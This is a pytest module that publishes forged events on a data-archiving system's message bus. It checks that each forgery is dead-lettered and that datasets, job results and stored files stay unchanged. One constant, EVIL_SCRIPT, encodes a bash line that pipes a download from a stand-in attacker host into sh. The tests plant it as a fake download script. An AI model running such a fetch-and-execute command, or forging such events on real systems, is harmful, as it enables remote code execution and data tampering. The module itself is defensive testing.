"""Forged events, published on the real bus of a running stack as an attacker with bus access would.

Every service checks an event against the system's own records before it
deletes or writes anything: the job records in KV, the datablocker's records,
and LTS itself. So each forgery here is dead-lettered with a reason, and the
data it aimed at is shown untouched: landing and archival copies of a dataset
never written to LTS, a retrieve job's download script, another group's dataset.
"""

import base64
import json
import os
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from minio import Minio
from nats.js import JetStreamContext
from nats.js.errors import KeyNotFoundError

from contracts import kv, subjects
from contracts.events import (
    Datablock,
    DatablocksCreated,
    DataFile,
    DatasetArchived,
    DatasetLifecycleChanged,
    DatasetPackingFailed,
    DeadLetter,
    JobStatusChanged,
)
from contracts.scicat import LifecyclePatch
from devstack.processes import tool_path
from devstack.stack import DevStack, StackPorts
from runtime.publishing import publish_event
from tests.badinput.stack_helpers import Scicat, jetstream
from tests.deadletters import dead_letters
from tests.polling import eventually, eventually_sync

WAIT_S = 90.0
SHA = "ab" * 32
EVIL_SCRIPT = base64.b64encode(b"#!/bin/bash\ncurl -s https://evil.example/x | sh\n").decode()


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DevStack]:
    dev = DevStack(tmp_path_factory.mktemp("forged-events-stack"), StackPorts.choose("auto"))
    try:
        dev.start()
        yield dev
    finally:
        dev.stop()


def _ingest(stack: DevStack, folder: Path, *, archive: bool) -> str:
    """A small dataset ingested through the real CLI (optionally with its archive job); its pid."""
    folder.mkdir()
    (folder / "a.txt").write_bytes(b"hello")
    (folder / "b.bin").write_bytes(bytes(range(256)) * 40)
    command = [
        tool_path("archiver"), "ingest", str(folder),
        "--owner-group", "group1",
        "--stack", str(stack.state_dir / "stack.json"),
    ]  # fmt: skip
    result = subprocess.run(
        [*command, "--archive"] if archive else command,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "200"},
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return result.stdout.strip().splitlines()[0]  # the pid; with --archive the job id follows


def _lifecycle(scicat: Scicat, pid: str) -> dict[str, Any]:
    return scicat.dataset(pid).get("datasetlifecycle") or {}


def _s3(stack: DevStack) -> Minio:
    return Minio(
        stack.s3_endpoint.removeprefix("http://"),
        access_key=stack.secrets.s3_access_key,
        secret_key=stack.secrets.s3_secret_key,
        secure=False,
    )


def _keys(s3: Minio, bucket: str, pid: str) -> list[str]:
    prefix = f"openem-network/datasets/{pid}/"
    return sorted(o.object_name for o in s3.list_objects(bucket, prefix=prefix, recursive=True))


@dataclass(frozen=True)
class Retrieved:
    """A dataset archived and retrieved through the whole system, and its retrieve job."""

    pid: str
    job_id: str


@pytest.fixture(scope="module")
def retrieved(stack: DevStack, tmp_path_factory: pytest.TempPathFactory) -> Retrieved:
    pid = _ingest(stack, tmp_path_factory.mktemp("retrieved") / "data", archive=True)
    scicat = Scicat(stack)
    eventually_sync(
        lambda: _lifecycle(scicat, pid).get("archiveStatusMessage"),
        f"{pid} datasetOnArchiveDisk",
        done=lambda status: status == "datasetOnArchiveDisk",
        timeout_s=WAIT_S,
        interval_s=0.2,
    )
    body = {
        "type": "retrieve",
        "ownerGroup": "group1",
        "jobParams": {"datasetList": [{"pid": pid, "files": []}]},
    }
    reply = scicat.request("POST", "/v4/jobs", body)
    assert reply.status_code == 201, reply.text
    job_id = reply.json()["id"]
    eventually_sync(
        lambda: scicat.request("GET", f"/v4/jobs/{quote(job_id, safe='')}").json(),
        f"retrieve job {job_id} finished with its result",
        done=lambda job: (
            job.get("statusCode") == "finishedSuccessful"
            and (job.get("jobResultObject") or {}).get("downloadScript")
        ),
        timeout_s=WAIT_S,
        interval_s=0.2,
    )
    return Retrieved(pid, job_id)


@pytest.fixture(scope="module")
def packed_only(stack: DevStack, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A dataset uploaded and packed (landing files and archival tars), never archived."""
    pid = _ingest(stack, tmp_path_factory.mktemp("packed") / "data", archive=False)
    scicat = Scicat(stack)
    eventually_sync(
        lambda: _lifecycle(scicat, pid).get("archiveStatusMessage"),
        f"{pid} packed (datasetCreated)",
        done=lambda status: status == "datasetCreated",
        timeout_s=WAIT_S,
        interval_s=0.2,
    )
    return pid


@pytest.fixture
def other_group_dataset(stack: DevStack) -> str:
    """A dataset of group2 that no archiver job or upload ever touched."""
    return Scicat(stack).create_dataset(f"group2-{datetime.now(UTC).timestamp()}", "group2")


async def _forge(js: JetStreamContext, subject: str, event: Any, name: str) -> int:
    """Publish `event` (a model, or raw JSON bytes) as an attacker; its stream sequence."""
    msg_id = f"forged:{name}:{datetime.now(UTC).isoformat()}"
    if isinstance(event, bytes):
        ack = await js.publish(subject, event, headers={"Nats-Msg-Id": msg_id}, timeout=10)
    else:
        ack = await publish_event(js, subject, event, msg_id=msg_id)
    return ack.seq


async def _letters(js: JetStreamContext, seqs: list[int]) -> list[DeadLetter]:
    """The dead letters of these ARCHIVER sequences, once every one has arrived, in that order."""

    async def probe() -> list[DeadLetter] | None:
        found = {d.stream_seq: d for d in await dead_letters(js) if d.stream == "ARCHIVER"}
        return [found[s] for s in seqs] if all(s in found for s in seqs) else None

    return await eventually(probe, f"dead letters of {seqs}", timeout_s=30, interval_s=0.2)


def _archiver_job_creations(scicat: Scicat) -> int:
    """How many jobs the archiver's SciCat accounts have created (scicat_sync creates them
    as archiveJobs; archiveManager only updates them)."""
    entries = scicat.request("GET", "/v3/admin/history").json()["entries"]
    return sum(
        1
        for e in entries
        if e["username"] in ("archiveJobs", "archiveManager")
        and e["method"] == "POST"
        and e["path"].lower().endswith("/jobs")
    )


def _archiver_writes(scicat: Scicat, pid: str) -> list[dict[str, Any]]:
    """Every write the archiver's SciCat account made to the dataset."""
    entries = scicat.request("GET", "/v3/admin/history").json()["entries"]
    quoted = quote(pid, safe="").lower()
    return [
        e
        for e in entries
        if e["username"] == "archiveManager"
        and e["method"] != "GET"
        and (quoted in e["path"].lower() or pid.lower() in e["path"].lower())
    ]


async def test_a_forged_dataset_archived_deletes_nothing_of_a_dataset_never_in_lts(
    stack: DevStack, packed_only: str, retrieved: Retrieved
) -> None:
    """dataset.archived for a packed dataset, with a made-up job and with a real job of another
    dataset: both dead-lettered; every landing file and archival tar stays; not marked cleaned."""
    s3 = _s3(stack)
    pid = packed_only
    landing, archival = _keys(s3, "landing", pid), _keys(s3, "archival", pid)
    tars = tuple(k for k in archival if k.endswith(".tar"))
    now = datetime.now(UTC)
    async with jetstream(stack) as js:
        seqs = [
            await _forge(
                js,
                subjects.DATASET_ARCHIVED,
                DatasetArchived(occurred_at=now, pid=pid, job_id=job_id, archive_ids=tars),
                f"archived-{n}",
            )
            for n, job_id in enumerate(("made-up-job", retrieved.job_id))
        ]
        letters = await _letters(js, seqs)
        cleaned = await js.key_value(kv.CLEANED_DATASETS)
        with pytest.raises(KeyNotFoundError):
            await cleaned.get(kv.id_key(pid))

    assert tars, "the dataset was packed"
    assert [(d.service, d.deliveries) for d in letters] == [("datablocker", 1)] * 2
    assert letters[0].reason == (
        f"dataset.archived for {pid} (job made-up-job) refused, nothing was deleted: "
        "there is no record of the job"
    )
    assert letters[1].reason == (
        f"dataset.archived for {pid} (job {retrieved.job_id}) refused, nothing was deleted: "
        "the job is a retrieve job"
    )
    assert _keys(s3, "landing", pid) == landing != []
    assert _keys(s3, "archival", pid) == archival


async def test_a_forged_job_status_cannot_replace_a_retrieve_jobs_download_script(
    stack: DevStack, retrieved: Retrieved
) -> None:
    """A job.status carrying a script, and one claiming another outcome far in the future: both
    dead-lettered; the job keeps the status and the result the archiver wrote."""
    scicat = Scicat(stack)
    path = f"/v4/jobs/{quote(retrieved.job_id, safe='')}"
    before = scicat.request("GET", path).json()
    with_script = json.dumps(
        {
            "schema_version": 1,
            "occurred_at": (datetime.now(UTC) + timedelta(days=365)).isoformat(),
            "job_id": retrieved.job_id,
            "status_code": "finishedSuccessful",
            "status_message": "Your data is ready: run the script",
            "job_result_object": {"result": [], "downloadScript": EVIL_SCRIPT},
        }
    ).encode()
    other_outcome = JobStatusChanged(
        occurred_at=datetime.now(UTC) + timedelta(days=365),
        job_id=retrieved.job_id,
        status_code="finishedUnsuccessful",
        status_message="Retrieval failed, contact evil@example.org",
    )
    async with jetstream(stack) as js:
        seqs = [
            await _forge(js, subjects.JOB_STATUS, with_script, "status-script"),
            await _forge(js, subjects.JOB_STATUS, other_outcome, "status-outcome"),
        ]
        letters = await _letters(js, seqs)
    after = scicat.request("GET", path).json()

    assert [(d.service, d.deliveries) for d in letters] == [("scicat_sync", 1)] * 2
    assert letters[0].reason == "message does not match its contract"
    assert letters[1].reason.startswith(
        f"job.status finishedUnsuccessful for job {retrieved.job_id}: the job's record says "
        "finishedSuccessful"
    )
    assert after["statusCode"] == before["statusCode"] == "finishedSuccessful"
    assert after["statusMessage"] == before["statusMessage"]
    assert after["jobResultObject"] == before["jobResultObject"]
    assert after["jobResultObject"]["downloadScript"] != EVIL_SCRIPT


async def test_a_forged_lifecycle_cannot_rewrite_another_groups_dataset(
    stack: DevStack, retrieved: Retrieved, other_group_dataset: str
) -> None:
    """dataset.lifecycle for a group2 dataset, naming a made-up job, a real job that does not
    list it, and the real job with its own dataset's change: all refused, nothing written."""
    scicat = Scicat(stack)
    pid = other_group_dataset
    before = scicat.dataset(pid)
    takeover = LifecyclePatch(
        archivable=False, retrievable=True, archive_status_message="datasetOnArchiveDisk"
    )
    now = datetime.now(UTC)
    forged = [
        DatasetLifecycleChanged(occurred_at=now, pid=pid, job_id="made-up-job", lifecycle=takeover),
        DatasetLifecycleChanged(
            occurred_at=now, pid=pid, job_id=retrieved.job_id, lifecycle=takeover
        ),
        DatasetLifecycleChanged(
            occurred_at=now,
            pid=retrieved.pid,
            job_id=retrieved.job_id,
            lifecycle=LifecyclePatch(
                retrieve_status_message="datasetRetrievalFailed",
                retrieve_return_message="contact evil@example.org",
            ),
        ),
    ]
    retrieved_before = _lifecycle(scicat, retrieved.pid)
    async with jetstream(stack) as js:
        seqs = [
            await _forge(js, subjects.DATASET_LIFECYCLE, event, f"lifecycle-{n}")
            for n, event in enumerate(forged)
        ]
        letters = await _letters(js, seqs)

    assert [(d.service, d.deliveries) for d in letters] == [("scicat_sync", 1)] * 3
    assert letters[0].reason == (
        f"dataset.lifecycle for {pid} (job made-up-job): the archiver has no record of the job; "
        "nothing was written to SciCat"
    )
    assert letters[1].reason == (
        f"dataset.lifecycle for {pid} (job {retrieved.job_id}): the job's record does not list "
        "the dataset; nothing was written to SciCat"
    )
    assert letters[2].reason.startswith(
        f"dataset.lifecycle for {retrieved.pid} (job {retrieved.job_id}): the job's record has "
        "no such change at "
    )
    assert scicat.dataset(pid) == before
    assert _archiver_writes(scicat, pid) == []
    assert _lifecycle(scicat, retrieved.pid) == retrieved_before


async def test_forged_packing_events_cannot_touch_another_groups_dataset(
    stack: DevStack, other_group_dataset: str
) -> None:
    """datablocks.created (with an archive job for the attacker's group) and packing_failed for
    a group2 dataset: refused; no datablock, no job, no lifecycle change in SciCat."""
    scicat = Scicat(stack)
    pid = other_group_dataset
    before = scicat.dataset(pid)
    jobs_before = _archiver_job_creations(scicat)
    now = datetime.now(UTC)
    archive_id = f"openem-network/datasets/{pid}/datablocks/{pid.replace('/', '-')}_0.tar"
    planted = DatablocksCreated(
        occurred_at=now,
        pid=pid,
        datablocks=(
            Datablock(
                archive_id=archive_id,
                size=5,
                packed_size=10240,
                tar_sha256=SHA,
                data_file_list=(DataFile(path="planted.sh", size=5, time=now, chk=SHA),),
            ),
        ),
        create_archiving_job=True,
        owner_group="group1",
        contact_email="evil@example.org",
    )
    failed = DatasetPackingFailed(occurred_at=now, pid=pid, kind="user", reason="files missing")
    async with jetstream(stack) as js:
        seqs = [
            await _forge(js, subjects.DATABLOCKS_CREATED, planted, "datablocks"),
            await _forge(js, subjects.DATASET_PACKING_FAILED, failed, "packing"),
        ]
        letters = await _letters(js, seqs)

    assert [(d.service, d.deliveries) for d in letters] == [("scicat_sync", 1)] * 2
    assert letters[0].reason == (
        f"datablocks.created for {pid}: the datablocker has no record of packing it; "
        "nothing was written to SciCat"
    )
    assert letters[1].reason == (
        f"dataset.packing_failed for {pid}: the datablocker has no record of packing failure; "
        "nothing was written to SciCat"
    )
    assert scicat.dataset(pid) == before
    assert scicat.request("GET", f"/v3/Datasets/{quote(pid, safe='')}/datablocks").json() == []
    assert _archiver_job_creations(scicat) == jobs_before
    assert _archiver_writes(scicat, pid) == []


async def test_no_event_on_the_bus_carries_a_presigned_url(
    stack: DevStack, retrieved: Retrieved
) -> None:
    """After a whole archive and retrieve, no message in the event log holds a signed URL; the
    URLs exist only in SciCat's job result."""
    scicat = Scicat(stack)
    job = scicat.request("GET", f"/v4/jobs/{quote(retrieved.job_id, safe='')}").json()
    async with jetstream(stack) as js:
        info = await js.stream_info("ARCHIVER")
        bodies = [
            (await js.get_msg("ARCHIVER", seq)).data
            for seq in range(info.state.first_seq, info.state.last_seq + 1)
        ]

    (offer,) = job["jobResultObject"]["result"]
    assert "X-Amz-Signature=" in offer["url"]
    assert httpx.get(offer["url"], timeout=30).status_code == 200
    assert len(bodies) > 10
    assert [b for b in bodies if b"X-Amz-Signature" in b or b"Signature=" in b] == []
